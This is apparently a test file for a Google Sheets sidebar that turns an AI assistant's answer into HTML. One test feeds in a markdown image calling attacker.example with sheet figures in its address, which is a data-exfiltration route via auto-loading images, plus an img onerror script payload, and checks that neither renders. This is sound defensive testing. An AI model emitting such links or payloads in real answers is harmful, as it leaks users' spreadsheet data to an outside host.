import assert from 'node:assert/strict';
import { answerHtml } from '../src/client/answer-html';

describe('Google Sheets sidebar: an answer as HTML', () => {
  it('renders no image an answer writes (it would load at once, sending what its address holds), and no raw HTML', () => {
    const html = answerHtml('North leads.\n\n![](https://attacker.example/c?d=North%3D1200)\n\n<img src=x onerror="window.pwned=1">');
    assert.doesNotMatch(html, /<img/);
    assert.match(html, /&lt;img src=x/);
  });

  it('keeps tables, bold, lists and single line breaks', () => {
    const html = answerHtml('**Total** 2,150\nNext line\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- item');
    assert.match(html, /<strong>Total<\/strong> 2,150<br \/>/);
    assert.match(html, /<table>/);
    assert.match(html, /<li>item<\/li>/);
  });
});
